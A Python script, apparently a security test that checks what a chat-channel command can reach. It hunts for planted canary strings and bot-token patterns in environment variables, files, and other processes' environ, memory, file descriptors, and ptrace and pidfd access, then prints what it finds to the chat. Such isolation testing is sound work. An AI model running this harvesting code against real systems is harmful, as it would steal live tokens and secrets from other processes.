"""What a command in a channel can get hold of: every place that it can name is searched for canaries.

usage: attack.py OUTPUT PID[,PID...] PATH...

Writes a JSON object: the canaries found in the environment, in files below the paths, and in the processes, with the
ways into each process that stood open. Prints what it has found, for the chat to be told.
"""

import ctypes
import json
import os
import re
import sys

CANARY = re.compile(rb"cnry-[a-z]+-[0-9]+-[0-9a-f]{8}")
# The first part of a bot token is an id in base64, and most begin so.
TOKEN = re.compile(rb"MT[\w-]{18,}\.[\w-]{6}\.[\w-]{20,}")
LIBC = ctypes.CDLL(None, use_errno=True)
PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
PIDFD_OPEN, PIDFD_GETFD = 434, 438


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def canaries(data):
    return {match.decode() for match in CANARY.findall(data) + TOKEN.findall(data)}


def read(path, limit=1 << 22):
    try:
        with open(path, "rb") as file:
            return file.read(limit)
    except OSError:
        return b""


def below(path):
    """All files at or below a path, but for the script's own."""
    if os.path.isfile(path):
        yield path
    for folder, _, names in os.walk(path):
        for name in names:
            found = os.path.join(folder, name)
            if os.path.isfile(found) and not found.endswith(("attack.py", "found.json")):
                yield found


def memory(pid):
    found, regions, opened = set(), [], False
    for line in read(f"/proc/{pid}/maps").decode(errors="replace").splitlines():
        span, mode = line.split()[:2]
        if mode.startswith("rw"):
            regions.append([int(end, 16) for end in span.split("-")])
    try:
        with open(f"/proc/{pid}/mem", "rb", 0) as file:
            for start, end in regions:
                try:
                    file.seek(start)
                    found |= canaries(file.read(min(end - start, 1 << 26)))
                    opened = True
                except (OSError, ValueError):
                    pass
    except OSError:
        pass
    return opened, found, regions


def peek(pid, regions):
    if not regions:
        return False
    buffer = ctypes.create_string_buffer(8)
    here = Iovec(ctypes.cast(buffer, ctypes.c_void_p), 8)
    there = Iovec(regions[0][0], 8)
    return LIBC.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) == 8


def trace(pid):
    LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
    if LIBC.ptrace(PTRACE_SEIZE, pid, None, None) != 0:
        return False
    LIBC.ptrace(PTRACE_DETACH, pid, None, None)
    return True


def steal(pid):
    handle = LIBC.syscall(PIDFD_OPEN, pid, 0)
    return handle >= 0 and any(LIBC.syscall(PIDFD_GETFD, handle, fd, 0) >= 0 for fd in range(3))


def files_of(pid):
    found, opened = set(), False
    try:
        for fd in os.listdir(f"/proc/{pid}/fd"):
            opened = True
            path = f"/proc/{pid}/fd/{fd}"
            if os.path.isfile(path):
                found |= canaries(read(path))
    except OSError:
        pass
    for path in ("root", "cwd"):
        opened = opened or os.access(f"/proc/{pid}/{path}/", os.R_OK)
    return opened, found


def process(pid):
    environ = read(f"/proc/{pid}/environ")
    in_memory, from_memory, regions = memory(pid)
    in_files, from_files = files_of(pid)
    doors = {
        "environ": bool(environ),
        "mem": in_memory,
        "fd": in_files,
        "ptrace": trace(pid),
        "process_vm_readv": peek(pid, regions),
        "pidfd_getfd": steal(pid),
    }
    found = canaries(environ) | canaries(read(f"/proc/{pid}/cmdline")) | from_memory | from_files
    return {"doors": sorted(door for door, is_open in doors.items() if is_open), "found": sorted(found)}


def main():
    output, pids, paths = sys.argv[1], sys.argv[2], sys.argv[3:]
    in_environment = canaries(b"\0".join(name + b"=" + value for name, value in os.environb.items()))
    own = canaries(read("/proc/self/environ") + read("/proc/1/cmdline") + read(f"/proc/{os.getppid()}/cmdline"))
    in_files = set()
    for path in paths:
        for file in below(path):
            in_files |= canaries(read(file))
    result = {
        "environment": sorted(in_environment | own),
        "files": sorted(in_files),
        "processes": {pid: process(int(pid)) for pid in pids.split(",")},
    }
    with open(output + ".new", "w") as file:
        json.dump(result, file)
    os.rename(output + ".new", output)
    found = set(result["environment"]) | in_files
    for seen in result["processes"].values():
        found.update(seen["found"])
    print("\n".join(sorted(found)))
    print("end of the attack")


main()
